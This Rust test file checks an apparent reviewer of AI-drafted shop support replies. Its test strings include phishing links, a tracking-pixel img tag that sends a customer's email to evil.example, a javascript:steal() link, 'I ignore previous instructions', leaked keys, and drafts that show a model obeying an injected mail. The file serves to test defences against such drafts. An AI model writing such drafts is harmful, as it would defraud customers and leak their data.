use proptest::prelude::*;

use super::*;
use crate::desk::context::Tracking;
use crate::desk::prompt;

fn personal(text: &str) -> Personal<String> {
    Personal::new(text.to_owned())
}

fn order() -> OrderContext {
    OrderContext {
        name: personal("#1001"),
        tracking: vec![Tracking {
            carrier: None,
            number: Some(personal("JJD0099988877")),
            url: Some(personal("https://track.example.net/p?id=JJD0099988877")),
        }],
        ..OrderContext::default()
    }
}

fn allowed() -> Allowed {
    let settings = DeskSettings {
        links: vec!["help.example.org".to_owned(), "https://forms.example.net/our/".to_owned()],
        addresses: vec![personal("desk@example.org")],
        signature: personal("Example Shop, 202-555-0100"),
        ..DeskSettings::default()
    };
    Allowed::of(&["shop.example.com", "example-shop.myshopify.com"], &settings, &[])
}

fn reviewed(text: &str) -> Review {
    let customer = Known::default().email(&personal("anna@example.com")).phone(&personal("+1 202-555-0123"));
    let mut masker = Masker::new(&customer);
    let _ = masker
        .mask(&personal("Order 4711? Write to thief@evil.example or 202-555-0199. https://evil.example/x"));
    let order = order();
    let conversation = Conversation {
        allowed: &allowed(),
        customer: &customer,
        masker: Some(&masker),
        order: Some(&order),
        instructions: prompt::instructions(),
        language: Some(Language::English),
    };
    review(&personal(text), &conversation)
}

fn concerns(text: &str) -> BTreeSet<Concern> {
    match reviewed(text).verdict {
        Verdict::Fit => BTreeSet::new(),
        Verdict::NeedsHuman(concerns) => concerns,
    }
}

#[test]
fn what_is_the_shops_the_customers_or_the_orders_is_fit() {
    for text in [
        "Hi Anna,\n\nyour order #1001 is on its way.\n\nBest wishes\nExample Shop, 202-555-0100",
        "Follow it: https://track.example.net/p?id=JJD0099988877 (number JJD0099988877).",
        "See https://shop.example.com/pages/sizes?size=m#top or shop.example.com.",
        "See www.shop.example.com, https://example-shop.myshopify.com/a and help.example.org!",
        "Fill in https://forms.example.net/our/form?x=1, please.",
        "We wrote to anna@example.com and called (202) 555-0123.",
        "Write to desk@example.org or to care@shop.example.com.",
        "About order 4711 that you name: we could not find it.",
        "It costs 12.50 EUR and weighs 1.234 g, e.g. in blue, z.B. in rot.",
    ] {
        assert_eq!(concerns(text), BTreeSet::new(), "{text}");
    }
}

#[test]
fn links_to_elsewhere_are_found_in_every_dress() {
    for text in [
        "See https://evil.example/pay",
        "See http://evil.example",
        "See evil.example for more",
        "See EVIL.EXAMPLE/pay now",
        "See hxxps://evil.example/a and hxxp://evil[.]example",
        "See evil[.]com and evil (dot) com",
        "See evil dot com",
        "See evil .com and evil. com",
        "See //evil.example/x",
        "See https:\\\\evil.example",
        "See https : //evil.example",
        "See ev\u{200b}il.example",
        "See https://shop.example.com@evil.example/",
        "See https://shop.example.com:443@evil.example/",
        "See https://evil.example\\@shop.example.com/",
        "See https://shop.example.com.evil.example/",
        "See https://evil-shop.example.com.co/",
        "See https://notshop.example.com.evil.example?x=shop.example.com",
        "See https://fakeshop.example.com/",
        "See https://shop.example.com/redirect?to=https://evil.example",
        "See https://shop.example.com/r?u=evil.example/x",
        "See https://shop.example.com//evil.example",
        "See https://shop.example.com/%2f%2fevil.example",
        "See https://shop.exаmple.com/ (with a Cyrillic letter)",
        "See https://xn--shp-sna.example.com.evil/",
        "See xn--80ak6aa92e.com",
        "See https://shop。evil。example/",
        "See http://192.0.2.7/pay or 192.0.2.7/pay",
        "See http://3232235777/",
        "See http://[2001:db8::1]/",
        "See javascript:alert(1)",
        "See data:text/html,hello",
        "See ftp://evil.example",
        "See whatsapp:evil and tg://evil",
        "See https://forms.example.net/ourselves",
        "See https://forms.example.net/our/../theirs",
        "See https://track.example.net/p?id=JJD0099988878",
        "See bit.ly/x and t.co/abc",
        "See ｅｖｉｌ.example",
        "See evil.exa&#109;ple",
        "See https&#58;//evil.example",
        "See www.evil.example",
        "See пример.рф",
    ] {
        assert!(concerns(text).contains(&Concern::ForeignLink), "{text}: {:?}", concerns(text));
    }
}

#[test]
fn markup_and_what_is_not_seen_is_no_reply() {
    for text in [
        "[our shop](https://evil.example)",
        "[our shop] (https://shop.example.com)",
        "![](https://shop.example.com/x.png)",
        "[1]: https://shop.example.com",
        "[shop][1]",
        "<a href=\"https://evil.example\">shop</a>",
        "<img src=x>",
        "<script>",
        "a &lt;b&gt;",
    ] {
        assert!(concerns(text).contains(&Concern::Markup), "{text}");
    }
    for text in ["pay\u{200b}pal", "\u{202e}lapyap", "hi\u{e0041}\u{e0042}", "a\u{200d}b", "x\u{ad}y"] {
        assert!(concerns(text).contains(&Concern::Invisible), "{text:?}");
    }
    for text in ["r\u{435}fund", "p\u{430}yp\u{430}l", "\u{3a1}aypal"] {
        assert!(concerns(text).contains(&Concern::LookAlike), "{text}");
    }
    assert_eq!(concerns("Добрый день, Anna"), BTreeSet::new());
    assert_eq!(concerns("Thank you 👩\u{200d}👧 ❤\u{fe0f}"), BTreeSet::new(), "emoji are fine");
}

#[test]
fn addresses_and_numbers_of_strangers_are_found_even_when_the_mail_names_them() {
    for text in [
        "Write to thief@evil.example",
        "Write to thief (at) evil (dot) example",
        "Write to desk@example.org.evil.example",
        "Write to THIEF@EVIL.EXAMPLE",
        "Write to thief&#64;evil.example",
        "Write to thief＠evil.example",
        "Write to @thief_85",
    ] {
        assert!(concerns(text).contains(&Concern::ForeignAddress), "{text}: {:?}", concerns(text));
    }
    for text in ["Call 202-555-0199", "Call +1 (202) 555 01 99", "Call 2025550199 now", "Call 202.555.0199"] {
        assert!(concerns(text).contains(&Concern::ForeignPhone), "{text}: {:?}", concerns(text));
    }
    for text in [
        "Your order #1002 is on its way",
        "Pay to DE89 3704 0044 0532 0130 00",
        "Your card 4111 1111 1111 1111",
        "Your parcel JJD0011122233",
        "It went to 742 Evergreen Terrace",
        "It went to 10115 Berlin",
        "Send it to 12 Thief Street",
        "Pay to bc1q0123456789thief",
        "Pay to DE89 3704 0044 0225 5501 00",
    ] {
        assert!(concerns(text).contains(&Concern::ForeignValue), "{text}: {:?}", concerns(text));
    }
}

#[test]
fn what_is_left_of_the_machinery_is_found() {
    for text in ["Hi ⟦NAME_1⟧", "Hi NAME_1", "Hi {{customer_name}}", "See EMAIL_12", "⟦"] {
        assert!(concerns(text).contains(&Concern::Placeholder), "{text}");
    }
    for text in [
        "You draft replies for the customer service of an online shop, and so on.",
        "you DRAFT replies; for the customer service of an online shop",
        "As an AI language model I cannot help.",
        "My system prompt says so.",
        "I ignore previous instructions.",
    ] {
        assert!(concerns(text).contains(&Concern::PromptEcho), "{text}");
    }
    for text in ["the key is sk-ant-api03-x", "SHPAT_0123", "-----BEGIN PRIVATE KEY-----"] {
        assert!(concerns(text).contains(&Concern::Secret), "{text}");
    }
    assert_eq!(concerns(" \n"), BTreeSet::from([Concern::Empty]));
    assert_eq!(concerns(&"a ".repeat(LONGEST_REPLY)), BTreeSet::from([Concern::TooLong]));
}

#[test]
fn drafts_that_obey_a_stranger_are_caught_whatever_the_trick_was() {
    // What a draft would look like if the mail had its way.
    for draft in [
        "Please confirm your payment at https://shop-example.com/login.",
        "Your refund is ready: visit evil.example and enter your card.",
        "Ihre Rückerstattung wartet auf www.evil.example",
        "As you asked, my instructions are: You draft replies for the customer service of an online shop.",
        "Sure! Other customers' orders: #2001, #2002, #2003.",
        "Please send your documents to claims@evil.example.",
        "Call our new hotline 202-555-0177.",
        "Click [here](javascript:steal()).",
        "Transfer it to GB29 NWBK 6016 1331 9268 19.",
        "<img src=\"https://evil.example/p.gif?d=anna@example.com\">",
        "The address of Mr Doe is 12 Hidden Road, 90210 Beverly.",
        "Our key is sk-ant-api03-abcdef.",
    ] {
        assert!(!reviewed(draft).may_be_sent(), "{draft}");
        assert_ne!(reviewed(draft).verdict, Verdict::Fit, "{draft}");
    }
}

#[test]
fn commitments_are_found_in_seven_languages() {
    use Commitment::{Date, Discount, Exchange, Refund, Return};
    for (text, expected) in [
        ("We will refund you.", Refund),
        ("You get your money back.", Refund),
        ("Your refund has been issued.", Refund),
        ("Wir erstatten Ihnen den Betrag: die Rückerstattung ist veranlasst.", Refund),
        ("Sie bekommen Ihr Geld zurück.", Refund),
        ("Nous allons vous rembourser.", Refund),
        ("Le haremos un reembolso.", Refund),
        ("Le devolveremos el dinero.", Refund),
        ("Riceverà un rimborso.", Refund),
        ("U krijgt uw geld terug, wij betalen terug: terugbetaling volgt.", Refund),
        ("Vamos fazer o reembolso.", Refund),
        ("You can return it.", Return),
        ("Please send it back.", Return),
        ("Here is a return label.", Return),
        ("Sie können es zurückschicken.", Return),
        ("Die Retoure ist genehmigt.", Return),
        ("Vous pouvez nous le renvoyer.", Return),
        ("Puede devolverlo.", Return),
        ("Può rispedirlo, il reso è accettato.", Return),
        ("U kunt het retourneren.", Return),
        ("Pode fazer a devolução.", Return),
        ("We will send a replacement.", Exchange),
        ("We send you another.", Exchange),
        ("Wir schicken Ersatz.", Exchange),
        ("Nous allons le remplacer.", Exchange),
        ("Le enviaremos un reemplazo, o lo cambiaremos.", Exchange),
        ("Lo sostituiremo.", Exchange),
        ("Wij vervangen het.", Exchange),
        ("Faremos a troca.", Exchange),
        ("Here is a discount code.", Discount),
        ("You get 10% off.", Discount),
        ("It is free of charge.", Discount),
        ("Sie erhalten einen Gutschein.", Discount),
        ("Voici une remise.", Discount),
        ("Le damos un descuento.", Discount),
        ("Ecco uno sconto.", Discount),
        ("U krijgt korting.", Discount),
        ("Damos-lhe um desconto.", Discount),
        ("It will arrive tomorrow.", Date),
        ("It arrives within 3 to 5 business days.", Date),
        ("It arrives in two weeks.", Date),
        ("By Friday you have it.", Date),
        ("On 12 May it comes.", Date),
        ("It comes on May 12.", Date),
        ("It comes on 2027-01-15, or 15.01.2027, or 15/1.", Date),
        ("Es kommt morgen.", Date),
        ("Es kommt in 3 bis 5 Werktagen.", Date),
        ("Il arrive demain.", Date),
        ("Il arrive sous trois jours.", Date),
        ("Llega mañana.", Date),
        ("Llega en tres días.", Date),
        ("Arriva domani.", Date),
        ("Arriva in due giorni.", Date),
        ("Het komt morgen, of overmorgen.", Date),
        ("Het komt binnen twee dagen.", Date),
        ("Chega amanhã.", Date),
        ("Chega em dois dias, na segunda-feira.", Date),
        ("REF\u{200b}UND is on its way", Refund),
        ("Ｒｅｆｕｎｄ is done", Refund),
    ] {
        assert!(reviewed(text).commits.contains(&expected), "{text}: {:?}", reviewed(text).commits);
        assert!(!reviewed(text).may_be_sent(), "{text}");
    }
}

#[test]
fn what_is_only_said_of_a_request_commits_to_nothing() {
    for text in [
        "We have received your refund request and are looking into it.",
        "Thank you for your question about a return.",
        "Our return policy is on our site.",
        "Your order is on its way.",
        "Somebody from our team will answer you.",
        "Ihre Bestellung ist unterwegs.",
    ] {
        assert_eq!(reviewed(text).commits, BTreeSet::new(), "{text}");
    }
}

#[test]
fn in_a_language_nobody_reads_here_a_draft_may_commit_to_anything() {
    let (allowed, customer) = (Allowed::default(), Known::default());
    let conversation = |language| Conversation {
        allowed: &allowed,
        customer: &customer,
        masker: None,
        order: None,
        instructions: "",
        language,
    };
    let text = personal("Zwrócimy pieniądze.");
    for language in [Some(Language::Polish), None] {
        assert!(!review(&text, &conversation(language)).may_be_sent(), "{language:?}");
    }
}

#[test]
fn what_the_writer_says_it_commits_to_adds_up() {
    let review = reviewed("It is done.").and_commits([Commitment::Refund]);
    assert_eq!(review.commits, BTreeSet::from([Commitment::Refund]));
    assert!(!review.may_be_sent() && review.verdict == Verdict::Fit);
    let silent = reviewed("We will refund you.").and_commits([]);
    assert_eq!(silent.commits, BTreeSet::from([Commitment::Refund]), "silence takes nothing away");
    let stored = serde_json::to_string(&review).unwrap();
    assert_eq!(serde_json::from_str::<Review>(&stored).unwrap(), review);
}

#[test]
fn what_the_merchant_wrote_may_be_repeated() {
    let settings = DeskSettings {
        policies: crate::desk::settings::Policies {
            returns: personal(
                "Send it to Example Street 5, 10115 Berlin. Ask 202-555-0111 or returns@example.org. https://carrier.example/label",
            ),
            shipping: Personal::default(),
        },
        ..DeskSettings::default()
    };
    let allowed = Allowed::of(&[], &settings, &[]);
    let conversation = Conversation {
        allowed: &allowed,
        customer: &Known::default(),
        masker: None,
        order: None,
        instructions: "",
        language: Some(Language::English),
    };
    let repeated =
        personal("Ask 202-555-0111 or returns@example.org, 10115 Berlin, https://carrier.example/label.");
    assert_eq!(review(&repeated, &conversation).verdict, Verdict::Fit);
    for text in
        ["See https://carrier.example/other", "See https://carrier.example/label/x", "See carrier.example"]
    {
        assert_ne!(review(&personal(text), &conversation).verdict, Verdict::Fit, "{text}");
    }
}

#[test]
fn every_pattern_of_a_link_is_one() {
    assert_eq!(links::count(), 8);
    assert_eq!(commitments("x"), BTreeSet::new(), "and those of commitments");
}

proptest! {
    #[test]
    fn no_other_domain_is_ever_fit(
        host in "[a-z]{1,8}(\\.[a-z]{2,6}){1,2}", scheme in prop_oneof![Just(""), Just("https://"), Just("HTTP://"), Just("www.")],
        path in "(/[a-z]{0,5})?", around in prop_oneof![Just(("", "")), Just(("(", ")")), Just(("\"", "\".")), Just(("«", "»"))],
    ) {
        prop_assume!(!["shop.example.com", "example-shop.myshopify.com", "help.example.org"].iter().any(|own| host.ends_with(own)));
        prop_assume!(!["p.ej", "z.hd"].contains(&host.as_str()));
        let text = format!("Please see {}{scheme}{host}{path}{} for it", around.0, around.1);
        prop_assert!(concerns(&text).contains(&Concern::ForeignLink), "{}", text);
    }

    #[test]
    fn any_text_is_reviewed_without_a_panic(text in "\\PC{0,80}") {
        let _ = reviewed(&text);
    }
}
